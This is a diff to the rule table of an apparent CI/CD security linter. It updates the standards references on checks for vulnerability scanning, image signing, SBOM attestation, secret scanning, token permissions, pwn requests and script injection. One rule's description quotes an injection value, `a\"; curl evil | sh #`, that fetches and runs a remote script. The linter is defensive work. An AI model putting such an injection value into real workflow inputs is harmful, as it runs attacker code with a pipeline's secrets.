@@ -974,7 +974,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "Image released without a blocking vulnerability scan",
 		.attack = "An image with a known critical vulnerability reaches the registry and the cluster, where the agent's first exploited request owns it.",
 		.fix = "Scan the built image before it is pushed or signed with a step that fails the job: trivy image --exit-code 1 --severity CRITICAL,HIGH (or trivy-action with exit-code: '1'), grype --fail-on high, or bulkhead vuln --fail-on high; no continue-on-error, no || true.",
-		.refs = "SLSA Build L2; NIST SSDF PW.8; CIS Software Supply Chain 2.3",
+		.refs = "OWASP CI/CD Top 10 CICD-SEC-3 (dependency chain abuse); NIST SSDF PW.4",
 		.check = check_vuln_gate,
 	},
 	{
@@ -984,7 +984,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "Vulnerability gate ignores HIGH severity",
 		.attack = "Remotely exploitable HIGH vulnerabilities pass the gate and ship in the image.",
 		.fix = "Include HIGH in the failing severities: --severity CRITICAL,HIGH, --fail-on high, severity-cutoff: high.",
-		.refs = "NIST SSDF PW.8",
+		.refs = "NIST SSDF PW.4",
 		.check = check_vuln_threshold,
 	},
 	{
@@ -994,7 +994,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "Pushed image is not signed",
 		.attack = "Without a signature, the cluster cannot tell the image CI built from one an attacker pushed with stolen registry credentials.",
 		.fix = "Sign the pushed digest after the push: cosign sign --yes IMAGE@DIGEST (keyless with id-token: write, or --key env://COSIGN_PRIVATE_KEY from a secret), or bulkhead sign.",
-		.refs = "SLSA Build L2; Sigstore cosign; CIS Software Supply Chain 2.4",
+		.refs = "OWASP CI/CD Top 10 CICD-SEC-9 (improper artifact integrity validation); Sigstore cosign",
 		.check = check_signed,
 	},
 	{
@@ -1004,7 +1004,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "No SBOM attested to the pushed image",
 		.attack = "When the next critical CVE lands nobody can tell which running images contain the package, and an unattested SBOM can be swapped for a clean-looking one.",
 		.fix = "Generate an SBOM (syft IMAGE -o spdx-json, anchore/sbom-action, trivy --format spdx-json) and attest it to the pushed image: cosign attest --type spdxjson --predicate sbom.json IMAGE, actions/attest-sbom, or bulkhead attest.",
-		.refs = "NTIA SBOM minimum elements; SLSA; EO 14028",
+		.refs = "NTIA SBOM minimum elements; OWASP CI/CD Top 10 CICD-SEC-9; in-toto attestations",
 		.check = check_sbom,
 	},
 	{
@@ -1014,7 +1014,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "No secret scan of the repository",
 		.attack = "A credential committed to the repository is copied into the image build context and history, where anyone who pulls the image or clones the repository finds it.",
 		.fix = "Add a secret scan of the repository to the workflow or its directory: gitleaks detect, trufflehog git, gitleaks/gitleaks-action, or bulkhead secrets --git.",
-		.refs = "CIS Software Supply Chain 1.5; OWASP CI/CD Top 10 CICD-SEC-6",
+		.refs = "OWASP CI/CD Top 10 CICD-SEC-6 (insufficient credential hygiene)",
 		.check = check_secret_scan,
 	},
 	{
@@ -1044,7 +1044,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "No permissions block: default GITHUB_TOKEN scope",
 		.attack = "Any step compromised in the job (a dependency, an action) inherits a token that may write to the repository, its releases and packages.",
 		.fix = "Add permissions: {contents: read} at the workflow level and grant more only in the jobs that need it.",
-		.refs = "GitHub security hardening: GITHUB_TOKEN permissions; OpenSSF Scorecard Token-Permissions",
+		.refs = "GitHub security hardening: GITHUB_TOKEN permissions; OpenSSF Scorecard Token-Permissions; OWASP CI/CD Top 10 CICD-SEC-5",
 		.check = check_no_permissions,
 	},
 	{
@@ -1074,7 +1074,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "Privileged trigger runs the pull request's code",
 		.attack = "A fork's pull request runs its own build scripts in a pull_request_target or workflow_run job that holds the repository's secrets and a write token (a 'pwn request').",
 		.fix = "Use the pull_request trigger for building untrusted code, or check out the base branch only; pass results to a privileged workflow as artifacts treated as data.",
-		.refs = "GitHub Security Lab: Preventing pwn requests",
+		.refs = "GitHub Security Lab: Preventing pwn requests; OWASP CI/CD Top 10 CICD-SEC-4 (poisoned pipeline execution)",
 		.check = check_pwn_request,
 	},
 	{
@@ -1084,7 +1084,7 @@ const struct bh_rule bh_ci_rules[] = {
 		.title = "Script injection from an attacker-controlled context",
 		.attack = "An issue title, branch name or commit message such as `a\"; curl evil | sh #` becomes shell code in the run: script, with the job's secrets and token.",
 		.fix = "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script.",
-		.refs = "GitHub security hardening: script injections; GitHub Security Lab: untrusted input",
+		.refs = "GitHub security hardening: script injections; GitHub Security Lab: untrusted input; OWASP CI/CD Top 10 CICD-SEC-4",
 		.check = check_injection,
 	},
 	{
